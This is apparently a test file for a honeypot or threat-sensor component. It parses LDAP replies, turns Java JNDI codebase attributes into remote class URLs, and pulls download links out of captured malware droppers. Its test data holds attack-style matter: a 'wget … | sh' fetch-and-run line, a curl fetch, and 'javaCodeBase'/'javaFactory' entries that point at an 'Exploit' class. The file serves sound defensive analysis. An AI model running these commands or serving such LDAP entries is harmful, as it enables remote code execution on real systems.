import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { classUrls, ldifOf, parseEntry } from '../../src/broker/fetch/java-object.ts'
import { lookUp } from '../../src/broker/fetch/ldap.ts'
import { linksIn } from '../../src/broker/fetch/links.ts'
import { encodeEntry, encodeMessage, encodeResult, OP, parseMessage, parseSearch } from '../../src/emulators/ldap/codec.ts'
import { BER, BerError, BerReader, encodeElement, encodeInteger } from '../../src/sensor/ber.ts'
import { jobDesk, tcpServer, trail, work } from './far-ends.ts'

const entryOf = (attributes: Parameters<typeof encodeEntry>[1], dn = 'a') =>
  parseEntry(new BerReader(encodeEntry(dn, attributes)).take(OP.entry))

/** Bytes that are nearly an answer, and bytes that are nothing. */
const hostile = fc.oneof(
  fc.uint8Array({ maxLength: 200 }),
  fc
    .array(fc.constantFrom(0x30, 0x31, 2, 4, 0x0a, 1, 0x64, 0x65, 0x61, 0x84, 0x80, 0, 3, 0xff), { maxLength: 60 })
    .map((a) => Uint8Array.from(a)),
  fc
    .tuple(fc.constantFrom(OP.entry, OP.done, OP.bound, 0x73), fc.uint8Array({ maxLength: 60 }))
    .map(([op, content]) => encodeMessage(2, encodeElement(op, content))),
)

describe('the LDAP of a broker', () => {
  it('asks for one entry with all of its attributes, as Java does', () => {
    const { id, op, content, controls } = parseMessage(new BerReader(lookUp('Exploit')).take(BER.sequence))
    expect([id, op]).toEqual([2, OP.search])
    expect(controls).toEqual([{ oid: '2.16.840.1.113730.3.4.2', critical: false, value: undefined }])
    expect(parseSearch(content)).toMatchObject({ scope: 0, sizeLimit: 0, typesOnly: false, attributes: [], filter: { kind: 'present' } })
    expect(parseSearch(content).base.toString()).toBe('Exploit')
  })

  it('reads an entry, or throws nothing but its own error', () => {
    fc.assert(
      fc.property(hostile, (bytes) => {
        try {
          parseEntry(Buffer.from(bytes))
        } catch (error) {
          expect(error).toBeInstanceOf(BerError)
        }
      }),
    )
    fc.assert(
      fc.property(fc.dictionary(fc.stringMatching(/^[a-zA-Z]{1,8}$/), fc.array(fc.uint8Array({ maxLength: 20 }))), (given) => {
        const attributes = Object.entries(given).map(([type, values]) => [type, values.map((value) => Buffer.from(value))] as const)
        expect(entryOf(attributes).attributes).toEqual(attributes.map(([type, values]) => ({ type, values })))
      }),
    )
  })

  it('ends a job in words, whatever a server says', async () => {
    let says: Uint8Array = Buffer.alloc(0)
    const bound = encodeMessage(1, encodeResult(OP.bound, { code: 0 }))
    const port = await tcpServer((socket) => {
      socket.end(Buffer.concat([bound, says]))
    })
    const desk = jobDesk({ limits: { perAddress: 1000 } })
    let job = 0
    await fc.assert(
      fc.asyncProperty(hostile, async (bytes) => {
        says = bytes
        const [first] = trail(await work(`ldap://127.0.0.1:${port}/${job++}`, desk))
        expect(first).toMatch(/^(failed ldap:.*: |kept ldap:)/)
      }),
      { numRuns: 60 },
    )
  })

  it('takes no more messages than an answer has, and none that is longer than a file may be', async () => {
    const bound = encodeMessage(1, encodeResult(OP.bound, { code: 0 }))
    const crowd = await tcpServer((socket) => {
      socket.write(Buffer.concat([bound, ...new Array<Buffer>(1000).fill(encodeMessage(2, encodeElement(0x73, Buffer.alloc(0))))]))
    })
    expect(trail(await work(`ldap://127.0.0.1:${crowd}/a`, jobDesk()))).toEqual([`failed ldap://127.0.0.1:${crowd}/a: nothing was there`])
    const huge = await tcpServer((socket) => {
      socket.write(Buffer.concat([bound, Buffer.from('3084ffffffff', 'hex')]))
    })
    expect(trail(await work(`ldap://127.0.0.1:${huge}/a`, jobDesk()))[0]).toMatch(/: no LDAP: a message of 4294967295 bytes$/)
    const unwilling = await tcpServer((socket) => {
      socket.write(Buffer.concat([bound, encodeMessage(2, encodeElement(OP.done, encodeInteger(32, BER.enumerated)))]))
    })
    expect(trail(await work(`ldap://127.0.0.1:${unwilling}/a`, jobDesk()))[0]).toMatch(/: answered result 32$/)
  })
})

describe('an entry', () => {
  it.each([
    [{ javaCodeBase: 'http://x.example:8888/', javaFactory: 'Exploit' }, ['http://x.example:8888/Exploit.class']],
    [{ JAVACODEBASE: 'http://x.example/', 'javafactory;binary': 'com.x.E' }, ['http://x.example/com/x/E.class']],
    [{ javaCodeBase: 'http://x.example:8888', javaFactory: 'E' }, ['http://x.example:8888/E.class', 'http://x.example:8888']],
    [{ javaCodeBase: 'http://x.example/e.jar', javaFactory: 'E' }, ['http://x.example/e.jar']],
    [{ javaCodeBase: 'http://x.example/', javaClassName: 'E' }, ['http://x.example/E.class']],
    [{ javaCodeBase: 'http://x.example/a http://y.example/' }, ['http://x.example/a', 'http://y.example/']],
    [{ javaFactory: 'E' }, []],
  ])('%j leads to %j', (attributes, urls) => {
    expect(classUrls(entryOf(Object.entries(attributes).map(([type, value]) => [type, [value]]))).map(({ url }) => url)).toEqual(urls)
  })

  it('is LDIF that cannot be forged by its values', () => {
    const entry = entryOf(
      [
        ['a', ['plain', ' space', ':colon', 'line\nuid: root', 'ünï', '']],
        ['b: x\nc', ['1']],
      ],
      'x\ny',
    )
    const values = ['a: plain', 'a:: IHNwYWNl', 'a:: OmNvbG9u', 'a:: bGluZQp1aWQ6IHJvb3Q=', 'a:: w7xuw68=', 'a: ', 'b__x_c: 1']
    expect(ldifOf(entry).split('\n')).toEqual(['dn:: eAp5', ...values, ''])
  })
})

describe('links of a file', () => {
  it.each([
    ['cd /tmp; wget http://x.example/a.sh -O- | sh', ['http://x.example/a.sh']],
    ['curl -s "https://x.example:8443/b?c=d&e=f"&&ftpget', ['https://x.example:8443/b?c=d&e=f']],
    ['\x01\x00\x14http://x.example/m\x07\x00tftp://192.0.2.1/n\x00', ['http://x.example/m', 'tftp://192.0.2.1/n']],
    ['see http://x.example/, and http://x.example/.', ['http://x.example/']],
    ['http://www.w3.org/2000/svg https://github.com/a http://www.apache.org/licenses/', []],
    ['http://w3.org.x.example/ http://notgithub.com/', ['http://w3.org.x.example/', 'http://notgithub.com/']],
    ['<!DOCTYPE html><a href="http://x.example/">', []],
  ])('%j', (text, links) => {
    expect(linksIn(Buffer.from(text, 'latin1'))).toEqual(links)
  })

  it('are found in time that grows with the file alone', () => {
    const began = performance.now()
    linksIn(Buffer.from('http://'.repeat(200_000)))
    linksIn(Buffer.from('http://a.'.repeat(200_000)))
    linksIn(Buffer.alloc(1_000_000, ' '))
    expect(performance.now() - began).toBeLessThan(3_000)
  })
})
